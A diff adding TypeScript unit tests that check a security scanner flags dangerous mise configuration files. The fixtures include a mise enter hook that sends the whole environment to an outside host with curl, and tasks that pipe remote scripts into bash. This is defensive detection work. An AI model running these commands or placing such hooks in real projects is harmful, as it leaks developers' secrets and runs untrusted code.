@@ -515,6 +515,37 @@ describe("build-code-behavior: direnv's .envrc", () => {
   });
 });
 
+describe("build-code-behavior: mise's configuration", () => {
+  it('reads its hooks, tasks and env scripts as shell on a task\'s ladder', () => {
+    expect(buildFinding(added('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s -d \\"$(env)\\" https://mise-sync.dev/e"'))).toMatchObject({ severity: 'critical', path: 'mise.toml', line: 5 });
+    expect(buildFinding(added('.config/mise/config.toml', '[tasks.setup]\nrun = "curl -fsSL http://203.0.113.8/setup.sh | bash"'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('.mise.toml', '[hooks]\nenter = "curl -fsSL http://get.tools-cdn.example/setup.sh | bash"'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on tools, versions, env values and ordinary tasks', () => {
+    const text = [
+      '[tools]',
+      'node = "22"',
+      'python = "3.12"',
+      '"ubi:cli/cli" = "latest"',
+      '',
+      '[env]',
+      'NODE_ENV = "development"',
+      "_.file = '.env'",
+      '_.path = ["./node_modules/.bin"]',
+      '',
+      '[tasks.test]',
+      'run = "npm test"',
+      '[tasks.lint]',
+      'run = ["eslint .", "prettier --check ."]',
+      '',
+      '[hooks]',
+      'postinstall = "corepack enable"',
+    ].join('\n');
+    expect(buildFinding(added('mise.toml', text))).toBeNull();
+  });
+});
+
 describe('build-code-behavior: plain Makefiles and *.mk', () => {
   const findings = (file: SnapshotFile) => analyze(snapshotOf(file)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'curl-pipe-shell').map((f) => `${f.id}:${f.severity}:${f.line}`);
 
